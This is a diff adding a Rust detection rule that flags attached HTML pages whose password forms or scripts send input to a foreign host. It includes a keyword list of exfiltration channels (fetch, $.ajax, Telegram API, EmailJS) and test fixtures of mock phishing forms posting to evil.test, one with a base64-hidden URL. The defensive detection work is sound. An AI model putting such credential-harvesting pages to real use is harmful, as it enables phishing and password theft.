@@ -1,0 +1,75 @@
+//! An attached page with a field for a password whose form, or script, sends it to a site that the page has nothing else of.
+
+use super::{Check, Heuristic};
+use crate::artifact::Tree;
+use crate::detect::Strength;
+use crate::detect::scripts::{Bundle, pages, site};
+
+pub(super) const RULE: Heuristic = Heuristic {
+    id: "html-credential-form",
+    strength: Strength::Medium,
+    title_en: "An attached web page asks for a password and sends it elsewhere",
+    title_ja: "添付のWebページがパスワードを入力させ、外部へ送ります",
+    attack: &["T1566.001", "T1056.003"],
+    page: include_str!("../../../docs/rules/html-credential-form.md"),
+    check,
+};
+
+fn check(tree: &Tree, hit: &mut Check) {
+    for page in pages(tree) {
+        if let Some(shown) = sends_away(&page) {
+            hit(page.holder.id, shown);
+        }
+    }
+}
+
+/// Ways in which a script sends what was typed.
+const SENDING: &[&str] =
+    &["$.ajax", "$.post", "fetch(", "xmlhttprequest", "axios", "sendbeacon", "api.telegram.org", "emailjs"];
+
+fn sends_away(page: &Bundle) -> Option<String> {
+    let mut forms = page.leads("form-password").peekable();
+    forms.peek()?;
+    let own: Vec<String> = page.leads("link").chain(page.leads("base")).filter_map(site).collect();
+    let is_foreign = |target: &&str| site(target).is_some_and(|host| !own.contains(&host));
+    if let Some(target) = forms.find(is_foreign) {
+        return Some(target.to_string());
+    }
+    let code = page.code();
+    let sends = SENDING.iter().find(|word| code.contains(**word));
+    let by_script =
+        || page.leads("form-password").any(str::is_empty) && (code.contains("://") || code.contains("atob"));
+    let sends = sends.filter(|_| by_script()).map(|word| (*word).to_string());
+    let decoded =
+        || page.decoded().find(|layer| layer.kind.id == "html").map(|layer| format!("{} bytes", layer.size));
+    sends.or_else(decoded)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::scripts::tests::hits;
+
+    #[test]
+    fn foreign_forms_hit() {
+        for page in [
+            "<html><img src='https://logo.office.example/l.png'><form method=post action='https://evil.test/n.php'><input type=password></form>",
+            "<html><input type='password'><script>$.ajax({url: atob('aHR0cHM6Ly9hLnRlc3Q=')});</script>",
+            "<form action='https://evil.test/p'><input name=passwd type=text></form>",
+        ] {
+            assert_eq!(hits(&RULE, "a.html", page.as_bytes()).len(), 1, "{page}");
+        }
+    }
+
+    #[test]
+    fn own_forms_and_pages_without_one_do_not() {
+        for page in [
+            "<html><a href='https://www.shop.example/'>x</a><form action='https://login.shop.example/'><input type=password></form>",
+            "<html><form action='/login'><input type=password></form>",
+            "<html><form action='https://a.example/search'><input name=q></form>",
+            "<html><form action='https://a.example/x'><input type=hidden name=password></form>",
+        ] {
+            assert_eq!(hits(&RULE, "a.html", page.as_bytes()), [""; 0], "{page}");
+        }
+    }
+}
